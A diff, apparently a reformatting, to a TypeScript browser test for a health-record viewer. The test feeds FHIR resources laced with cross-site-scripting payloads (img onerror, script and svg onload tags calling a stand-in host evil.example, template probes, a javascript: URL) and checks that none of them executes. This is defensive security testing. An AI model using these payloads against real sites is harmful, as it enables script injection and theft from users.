@@ -10,17 +10,24 @@ const MARJORIE = { nhsNumber: '999 012 3454', dateOfBirth: '14-Mar-1948' };
 const SCRIPT = `"'><img src=x onerror=alert(1)><script>alert(2)</script><svg onload=fetch('https://evil.example/')>{{7*7}}\${7*7}`;
 const ADDRESS = 'javascript:alert(3)//';
 /** Elements whose words a person reads; ids, codes, dates and references stay, or the resource would only be refused. */
-const WORDS = /^(text|display|title|description|comment|patientInstruction|valueString|unit|city|line|alias|div|reason|name)$/;
+const WORDS =
+  /^(text|display|title|description|comment|patientInstruction|valueString|unit|city|line|alias|div|reason|name)$/;
 
 function hostile(value: unknown, element = ''): unknown {
   if (Array.isArray(value)) return value.map((item) => hostile(item, element));
-  if (typeof value === 'string') return element === 'url' ? ADDRESS : WORDS.test(element) ? `${value} ${SCRIPT}` : value;
+  if (typeof value === 'string')
+    return element === 'url' ? ADDRESS : WORDS.test(element) ? `${value} ${SCRIPT}` : value;
   if (typeof value !== 'object' || value === null) return value;
   const entries = Object.entries(value);
   // the look-up and the person must still match, or nothing of it would be shown at all
   if ((value as { resourceType?: unknown }).resourceType === 'Patient') return value;
   const system = typeof (value as { system?: unknown }).system === 'string';
-  return Object.fromEntries(entries.map(([key, inner]) => [key, system && (key === 'system' || key === 'value') ? inner : key === 'link' ? inner : hostile(inner, key)]));
+  return Object.fromEntries(
+    entries.map(([key, inner]) => [
+      key,
+      system && (key === 'system' || key === 'value') ? inner : key === 'link' ? inner : hostile(inner, key),
+    ]),
+  );
 }
 
 describe('a provider that sends script', () => {
@@ -45,7 +52,10 @@ describe('a provider that sends script', () => {
 
   const product = useProduct((config) => ({
     ...config,
-    providers: config.providers.map((one) => ({ ...one, baseUrl: one.baseUrl.replace(/^http:\/\/[^/]+/, provider.origin) })),
+    providers: config.providers.map((one) => ({
+      ...one,
+      baseUrl: one.baseUrl.replace(/^http:\/\/[^/]+/, provider.origin),
+    })),
   }));
 
   it('runs nothing, asks nothing and shows it as the words it is', async () => {
@@ -59,7 +69,13 @@ describe('a provider that sends script', () => {
     for (let at = 0; at < 12; at += 1) {
       await rows.nth(at).click();
       await region(page, 'Entry').waitFor();
-      expect(await countOf(page.locator('img[src="x"], svg[onload], [href^="javascript:"], [src^="javascript:"], body script:not([src])'))).toBe(0);
+      expect(
+        await countOf(
+          page.locator(
+            'img[src="x"], svg[onload], [href^="javascript:"], [src^="javascript:"], body script:not([src])',
+          ),
+        ),
+      ).toBe(0);
     }
     await page.getByRole('searchbox', { name: 'Search the record' }).fill('<script>');
     expect(await countOf(rows)).toBeGreaterThan(0);
